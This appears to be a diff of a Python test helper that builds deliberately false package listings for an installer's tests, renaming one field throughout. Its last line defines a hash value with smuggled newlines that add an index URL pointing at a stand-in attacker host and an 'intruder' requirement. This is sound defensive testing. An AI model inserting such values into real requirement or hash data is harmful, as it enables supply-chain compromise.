@@ -22,7 +22,7 @@ WRONG_LISTING = "the listing is wrong about it: "
 class Lie:
     """One way to lie."""
 
-    told: str
+    sentence: str
     """What is said of the release when somebody asks for it."""
     filename: str = f"{NAME}-{LYING}-{TAG}"
     hashes: dict = field(default_factory=lambda: {"sha256": RIGHT})
@@ -37,7 +37,7 @@ class Lie:
     @property
     def late(self):
         """Whether it shows only where the release's metadata are read."""
-        return not self.told.startswith(WRONG_LISTING)
+        return not self.sentence.startswith(WRONG_LISTING)
 
 
 def lying_hash(text):
@@ -52,14 +52,14 @@ def lying_address(url):
     return Lie(f"{WRONG_LISTING}{url!a} is no address", url=url)
 
 
-def lying_metadata(text, told):
-    return Lie(f"the metadata of {NAME}-{LYING}-{TAG} are not its own: {told}", metadata=text.encode())
+def lying_metadata(text, sentence):
+    return Lie(f"the metadata of {NAME}-{LYING}-{TAG} are not its own: {sentence}", metadata=text.encode())
 
 
 def bad_requirement(text, why):
     wheel = make_wheel(NAME, LYING, [text])
-    told = f'{NAME}-{LYING}-{TAG} asks for "{text}", which is no requirement: {why}'
-    return Lie(told, wheel=wheel, hashes={"sha256": hashlib.sha256(wheel).hexdigest()})
+    sentence = f'{NAME}-{LYING}-{TAG} asks for "{text}", which is no requirement: {why}'
+    return Lie(sentence, wheel=wheel, hashes={"sha256": hashlib.sha256(wheel).hexdigest()})
 
 
 SMUGGLED = f"{RIGHT}\n--index-url http://evil.invalid/simple\n--find-links /x\nintruder==1.0"
